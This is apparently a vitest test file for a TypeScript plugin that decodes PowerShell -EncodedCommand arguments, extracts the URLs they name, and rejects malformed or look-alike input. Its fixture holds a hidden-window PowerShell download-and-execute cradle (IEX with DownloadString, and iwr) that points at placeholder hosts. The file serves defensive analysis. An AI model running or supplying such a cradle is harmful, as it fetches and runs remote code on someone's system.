/**
 * Decoding `-EncodedCommand`: PowerShell's parameter prefixes, Base64 of UTF-16LE, the URLs the script names;
 * anything that is not readable script text is refused rather than guessed at.
 */
import { describe, expect, it } from 'vitest';
import { decodeEncodedPowerShell } from '../../../src/plugins/decode-powershell.js';

const encode = (script: string) => Buffer.from(script, 'utf16le').toString('base64');
const SCRIPT =
  "IEX (New-Object Net.WebClient).DownloadString('https://a.example/x.ps1'); iwr http://b.example/y";

describe('decodeEncodedPowerShell', () => {
  it.each(['-EncodedCommand', '-encodedcommand', '-enc', '-en', '-e', '-ec', '/enc', '-EncodedC'])(
    'reads the script behind %s',
    (parameter) => {
      const decoded = decodeEncodedPowerShell(`powershell.exe -NoP -W Hidden ${parameter} ${encode(SCRIPT)}`);
      expect(decoded?.decoded).toBe(SCRIPT);
      expect(decoded?.urls).toEqual(['https://a.example/x.ps1', 'http://b.example/y']);
    },
  );

  it('reads a quoted argument and pwsh', () => {
    expect(decodeEncodedPowerShell(`pwsh -e "${encode('Get-Date')}"`)?.decoded).toBe('Get-Date');
  });

  it.each([
    ['a command line without an encoded command', 'powershell.exe -File C:\\scripts\\backup.ps1'],
    ['another program', `cmd.exe /c echo -enc ${encode('Get-Date')}`],
    ['no argument', 'powershell.exe -enc'],
    ['text that is not Base64', 'powershell.exe -enc not*base64!'],
    [
      'Base64 of UTF-8, not UTF-16LE',
      `powershell.exe -enc ${Buffer.from('\u0001\u0002binary\u0000').toString('base64')}`,
    ],
    ['an odd number of bytes', `powershell.exe -enc ${Buffer.from('abc').toString('base64')}`],
    ['a parameter that only looks similar', `powershell.exe -ExecutionPolicy ${encode('Get-Date')}`],
    ['nothing', undefined],
  ])('refuses %s', (_what, commandLine) => {
    expect(decodeEncodedPowerShell(commandLine)).toBeUndefined();
  });

  it('keeps to its bounds on a huge argument', () => {
    expect(decodeEncodedPowerShell(`powershell -enc ${'A'.repeat(100_000)}`)).toBeUndefined();
  });
});
